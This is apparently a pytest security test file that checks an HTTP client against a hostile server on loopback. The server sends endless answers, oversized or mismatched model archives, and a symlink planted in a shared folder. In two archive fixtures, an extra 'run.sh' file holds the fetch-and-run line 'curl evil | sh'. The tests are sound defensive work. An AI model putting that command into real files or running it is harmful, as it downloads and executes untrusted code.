"""A hostile (or compromised) server answering the client with more than it should.

The attacks, against ``HTTPWard`` talking to a real HTTP server on loopback (``http.server`` in a
thread, no mock of httpx): a ``whoami`` answered with an endless JSON document, or an error document
of the same kind, which the client read whole into memory (256 MiB of answer grew it by 850 MiB); an
export answered without end, which filled the disk; a model's files answered with a larger file than
the catalog lists, or another file of the listed size, or one more file, each of which ``model files``
wrote into the user's folder as the model. The client now reads every answer within a cap and holds a
model's files to the names, sizes and digests the catalog lists, leaving nothing at the destination
when it refuses them.
"""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path

import pytest

from dataward.client.http import HTTPWard
from dataward.domain.errors import DatawardError, IntegrityViolation
from dataward.domain.hashing import HASH_PREFIX, blake3_hex
from dataward.domain.transport_errors import ServerUnreachable
from tests.security.hostile_http import Hostile, MiB


def _client(url: str) -> HTTPWard:
    return HTTPWard(url, key="dw_k_secret", timeout=20)


def test_an_endless_json_answer_is_cut_off_at_the_cap(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATAWARD_MAX_ANSWER_MB", "1")
    total = 32 * MiB
    hostile.routes["/api/v1/whoami"] = hostile.chunked(200, b'{"ward": "w", "pad": "', total, b'"}')
    with _client(hostile.url) as client, pytest.raises(ServerUnreachable, match="larger than 1 MiB"):
        client.whoami()
    assert hostile.sent < total  # the client stopped reading, it did not take it all


def test_an_endless_error_document_is_cut_off_at_the_cap(hostile: Hostile, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATAWARD_MAX_ANSWER_MB", "1")
    total = 32 * MiB
    body = b'{"error": "input_error", "exit_code": 2, "message": "'
    hostile.routes["/api/v1/whoami"] = hostile.chunked(400, body, total, b'"}')
    with _client(hostile.url) as client, pytest.raises(ServerUnreachable, match="error document is larger"):
        client.whoami()
    assert hostile.sent < total


def test_an_answer_declaring_more_than_the_cap_is_refused_unread(hostile: Hostile) -> None:
    body = b'{"ward": "w", "pad": "' + b"A" * (2 * MiB) + b'"}'
    hostile.routes["/api/v1/whoami"] = hostile.whole(body)
    client = HTTPWard(hostile.url, key="dw_k_secret", max_answer_bytes=MiB)
    with client, pytest.raises(ServerUnreachable, match="larger than 1 MiB"):
        client.whoami()
    # A dataward answer of ordinary size is read as before.
    hostile.routes["/api/v1/whoami"] = hostile.whole(b'{"ward": "w"}')
    with _client(hostile.url) as client:
        assert client.whoami() == {"ward": "w"}


def test_an_endless_export_writes_nothing(hostile: Hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATAWARD_MAX_DOWNLOAD_MB", "2")
    total = 32 * MiB
    export = hostile.chunked(200, b"PAR1", total, document={"version": "wine@v1"})
    hostile.routes["/api/v1/versions/wine%40v1/export"] = export
    target = tmp_path / "out.parquet"
    with _client(hostile.url) as client, pytest.raises(ServerUnreachable, match="export of wine@v1 is larger"):
        client.export("wine@v1", target)
    assert list(tmp_path.iterdir()) == []  # no file, no temporary file left beside it
    assert hostile.sent < total


# --- a model's files -----------------------------------------------------------------------------

LISTED = b"the model's weights" * 50


def _tar(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _model_server(hostile: Hostile, sent_files: dict[str, bytes]) -> None:
    """The catalog lists one file, ``model.bin`` (``LISTED``); the files route sends ``sent_files``."""
    listed = [{"name": "model.bin", "digest": HASH_PREFIX + blake3_hex(LISTED), "size": len(LISTED)}]
    hostile.routes["/api/v1/models/m%40v1"] = hostile.whole(json.dumps({"ref": "m@v1", "files": listed}).encode())
    hostile.routes["/api/v1/models/m%40v1/files"] = hostile.whole(
        _tar(sent_files), content_type="application/x-tar", document={"model": "m@v1", "digest": "sha256:0"}
    )


def test_model_files_larger_than_the_catalog_lists_are_refused(hostile: Hostile, tmp_path: Path) -> None:
    _model_server(hostile, {"model.bin": b"\0" * (16 * MiB)})
    target = tmp_path / "model"
    with _client(hostile.url) as client, pytest.raises(ServerUnreachable, match="files of model 'm@v1' is larger"):
        client.model_files("m@v1", target)
    assert not target.exists()  # the folder the command would have made is not left behind


def test_endless_model_files_are_cut_off_at_the_catalogs_sizes(hostile: Hostile, tmp_path: Path) -> None:
    _model_server(hostile, {})
    total = 32 * MiB
    hostile.routes["/api/v1/models/m%40v1/files"] = hostile.chunked(200, b"", total, document={"model": "m@v1"})
    target = tmp_path / "model"
    with _client(hostile.url) as client, pytest.raises(ServerUnreachable, match="files of model 'm@v1' is larger"):
        client.model_files("m@v1", target)
    assert not target.exists()
    assert hostile.sent < total


@pytest.mark.parametrize(
    ("sent", "problem"),
    [
        ({"model.bin": b"x" * len(LISTED)}, "does not hash to the catalog's digest"),
        ({"model.bin": LISTED[:-1]}, "where the catalog lists"),
        ({"model.bin": LISTED[:-20], "run.sh": b"curl evil | sh"}, "'run.sh', which the catalog does not list"),
        ({"other.bin": LISTED}, "holds 'other.bin'"),
        # One more file past the listed total is refused as the archive is unpacked, before any check.
        ({"model.bin": LISTED, "run.sh": b"curl evil | sh"}, "'run.sh', which takes the unpacked total"),
    ],
)
def test_model_files_other_than_the_catalog_lists_leave_nothing(
    hostile: Hostile, tmp_path: Path, sent: dict[str, bytes], problem: str
) -> None:
    _model_server(hostile, sent)
    target = tmp_path / "model"
    target.mkdir()
    (target / "model.bin").write_bytes(b"the user's own file")
    with _client(hostile.url) as client, pytest.raises(DatawardError, match=problem) as refused:
        client.model_files("m@v1", target)
    assert refused.value.exit_code in (IntegrityViolation.exit_code, 2)
    # The user's file under the listed name is untouched, and nothing else is left in the folder.
    assert sorted(p.name for p in target.iterdir()) == ["model.bin"]
    assert (target / "model.bin").read_bytes() == b"the user's own file"


def test_model_files_as_the_catalog_lists_them_are_written(hostile: Hostile, tmp_path: Path) -> None:
    _model_server(hostile, {"model.bin": LISTED})
    target = tmp_path / "deep" / "model"
    with _client(hostile.url) as client:
        info = client.model_files("m@v1", target)
    assert info["folder"] == str(target)
    assert sorted(p.name for p in target.iterdir()) == ["model.bin"]
    assert (target / "model.bin").read_bytes() == LISTED


def test_a_model_listed_without_sizes_is_refused_before_any_download(hostile: Hostile, tmp_path: Path) -> None:
    hostile.routes["/api/v1/models/m%40v1"] = hostile.whole(b'{"ref": "m@v1"}')
    _never: list[int] = []
    hostile.routes["/api/v1/models/m%40v1/files"] = lambda h: _never.append(1)
    with _client(hostile.url) as client, pytest.raises(DatawardError, match="lists no files"):
        client.model_files("m@v1", tmp_path / "model")
    assert not _never
    assert not (tmp_path / "model").exists()


@pytest.mark.parametrize("value", ["abc", "0", "-1", "nan", "inf"])
def test_a_cap_that_is_not_a_positive_size_is_refused(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    monkeypatch.setenv("DATAWARD_MAX_ANSWER_MB", value)
    with pytest.raises(DatawardError, match="DATAWARD_MAX_ANSWER_MB"):
        HTTPWard("http://127.0.0.1:9", key="dw_k_secret")


def _listed_model(hostile: Hostile, files: dict[str, bytes]) -> None:
    """The catalog lists ``files`` and the files route sends exactly them: an honest server."""
    listed = [{"name": n, "digest": HASH_PREFIX + blake3_hex(d), "size": len(d)} for n, d in files.items()]
    hostile.routes["/api/v1/models/m%40v1"] = hostile.whole(json.dumps({"ref": "m@v1", "files": listed}).encode())
    hostile.routes["/api/v1/models/m%40v1/files"] = hostile.whole(
        _tar(files), content_type="application/x-tar", document={"model": "m@v1", "digest": "sha256:0"}
    )


@pytest.mark.parametrize("planted", ["link", "file"])
def test_a_folder_planted_in_a_shared_destination_is_not_written_through(
    hostile: Hostile, tmp_path: Path, planted: str
) -> None:
    """The attack: another user of a shared output folder plants ``model/tokenizer`` as a link to a folder of
    the victim's (``~/.config/app``) before the victim runs ``model files m@v1 model/``. The model's
    ``tokenizer/vocab.json`` was renamed into the victim's folder, over the victim's own file of that name.
    A folder on the way that is a link (or a file) is now refused before any file is placed."""
    _listed_model(hostile, {"model.bin": LISTED, "tokenizer/vocab.json": b'{"the": 1}'})
    victim = tmp_path / "home" / ".config" / "app"
    victim.mkdir(parents=True)
    (victim / "vocab.json").write_text("the victim's own settings")
    target = tmp_path / "shared" / "model"
    target.mkdir(parents=True)
    if planted == "link":
        (target / "tokenizer").symlink_to(victim)
    else:
        (target / "tokenizer").write_text("a file where the model has a folder")
    with _client(hostile.url) as client, pytest.raises(DatawardError, match=r"tokenizer is (a link|not a folder)"):
        client.model_files("m@v1", target)
    assert (victim / "vocab.json").read_text() == "the victim's own settings"
    assert sorted(p.name for p in target.iterdir()) == ["tokenizer"]  # nothing placed, no staging folder left


def test_model_files_in_folders_are_written_in_their_folders(hostile: Hostile, tmp_path: Path) -> None:
    _listed_model(hostile, {"model.bin": LISTED, "tokenizer/vocab.json": b'{"the": 1}'})
    target = tmp_path / "model"
    (target / "tokenizer").mkdir(parents=True)  # a folder of the user's own is used as it is
    with _client(hostile.url) as client:
        client.model_files("m@v1", target)
    assert (target / "tokenizer" / "vocab.json").read_bytes() == b'{"the": 1}'
    assert (target / "model.bin").read_bytes() == LISTED
